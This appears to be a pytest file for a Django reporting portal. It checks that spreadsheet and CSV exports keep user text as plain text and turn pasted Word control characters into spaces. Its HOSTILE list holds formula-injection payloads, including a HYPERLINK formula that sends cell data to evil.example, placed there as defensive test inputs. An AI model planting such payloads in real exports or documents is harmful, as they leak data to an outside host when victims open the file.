"""People's text never arrives as a live formula in any spreadsheet the portal writes: the
справка and the roadmap (XLSX), the roadmap export, the school × activity matrix and the admin's
CSV/XLSX export. Hostile text is written through each and read back with openpyxl; so is text
pasted from Word with control characters XML forbids, which arrive as spaces."""

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from reports import services
from reports.models import GeneratedReport, ReportText

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&B2,"Подробнее")',
    "+7(863)000-00-00",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def hostile(cast):
    """The A side's program with hostile text wherever people type it."""
    side = cast.a
    side.program.title = HOSTILE[0]
    side.program.save()
    side.section.title = HOSTILE[3]
    side.section.save()
    activity = side.activity
    activity.title = HOSTILE[0]
    activity.deadline = HOSTILE[2]
    activity.result_name = HOSTILE[1]
    activity.executors_text = HOSTILE[3]
    activity.save()
    side.school.name = HOSTILE[0]
    side.school.save()
    side.party.name = HOSTILE[4]
    side.party.save()
    year = side.activity_year
    year.planned_text = "-"
    year.save()
    ReportText.objects.create(
        program=side.program, year=2021, conclusions="\n".join(HOSTILE), signer_name=HOSTILE[5]
    )
    return cast


def assert_no_formulas(content: bytes) -> set[str]:
    """Every cell of the workbook is a value; returns the texts found."""
    book = load_workbook(io.BytesIO(content))
    texts = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate}: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.add(cell.value)
    return texts


def _built(report) -> bytes:
    report = services.build_report(report.pk)
    assert report.status == GeneratedReport.Status.DONE, report.error
    return report.file.read()


@pytest.mark.parametrize("kind", ["spravka", "roadmap"])
def test_report_xlsx_keeps_hostile_text_as_text(hostile, kind):
    report = services.request_report(
        user=hostile.users["coordinator_a"],
        program=hostile.a.program,
        kind=kind,
        fmt="xlsx",
        year=2021,
    )
    texts = assert_no_formulas(_built(report))
    # Exactly as written: no apostrophe, no lost character.
    assert HOSTILE[0] in texts
    if kind == "spravka":
        assert set(HOSTILE[:4]) <= texts


def test_roadmap_export_and_matrix_keep_hostile_text_as_text(hostile, client):
    client.force_login(hostile.users["coordinator_a"])
    program = hostile.a.program
    export = client.get(reverse("program_export", args=[program.pk, "xlsx"]))
    assert export.status_code == 200
    texts = assert_no_formulas(export.content)
    assert {HOSTILE[0], HOSTILE[2], "-"} <= texts
    matrix = client.get(reverse("school_report_matrix_xlsx", args=[program.pk]) + "?year=2021")
    assert matrix.status_code == 200
    texts = assert_no_formulas(matrix.content)
    assert f"{HOSTILE[0]} — 2021" in texts  # the program's title


def _admin_export(client, model_admin: str, fmt: int) -> bytes:
    url = reverse(f"admin:{model_admin}_export")
    form = client.get(url).context["form"]
    data = {name: field.initial for name, field in form.fields.items() if field.initial}
    data.update({"format": fmt, "resource": 0})
    data.update({name: "on" for name in form.fields if name.startswith(model_admin.split("_")[1])})
    response = client.post(url, data)
    assert response.status_code == 200, response.content[:500]
    return response.content


@pytest.mark.parametrize("model_admin", ["programs_activity", "schools_school", "schools_party"])
def test_admin_export_escapes_formulas(hostile, client, model_admin):
    client.force_login(hostile.users["admin"])
    rows = list(csv.reader(io.StringIO(_admin_export(client, model_admin, 0).decode("utf-8-sig"))))
    values = [value for row in rows for value in row]
    assert not [value for value in values if value.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert any(value.startswith("'") and value[1:] in HOSTILE for value in values)
    texts = assert_no_formulas(_admin_export(client, model_admin, 1))
    assert any(text.startswith("'") and text[1:] in HOSTILE for text in texts)


PASTED = "Семинар\x0bдля\x07педагогов"  # a line break and a cell end pasted from a Word table


@pytest.fixture
def pasted(cast):
    """The A side's activity and school named with characters XML forbids."""
    cast.a.activity.title = PASTED
    cast.a.activity.save()
    cast.a.school.name = PASTED
    cast.a.school.save()
    return cast


@pytest.mark.parametrize("kind", ["spravka", "roadmap"])
def test_text_pasted_from_word_reaches_the_report_xlsx_as_spaces(pasted, kind):
    report = services.request_report(
        user=pasted.users["coordinator_a"],
        program=pasted.a.program,
        kind=kind,
        fmt="xlsx",
        year=2021,
    )
    assert "Семинар для педагогов" in assert_no_formulas(_built(report))


def test_text_pasted_from_word_reaches_exports_matrix_and_admin_as_spaces(pasted, client):
    client.force_login(pasted.users["coordinator_a"])
    program = pasted.a.program
    export = client.get(reverse("program_export", args=[program.pk, "xlsx"]))
    assert "Семинар для педагогов" in assert_no_formulas(export.content)
    matrix = client.get(reverse("school_report_matrix_xlsx", args=[program.pk]) + "?year=2021")
    assert "Семинар для педагогов" in assert_no_formulas(matrix.content)
    client.force_login(pasted.users["admin"])
    assert "Семинар для педагогов" in assert_no_formulas(
        _admin_export(client, "programs_activity", 1)
    )
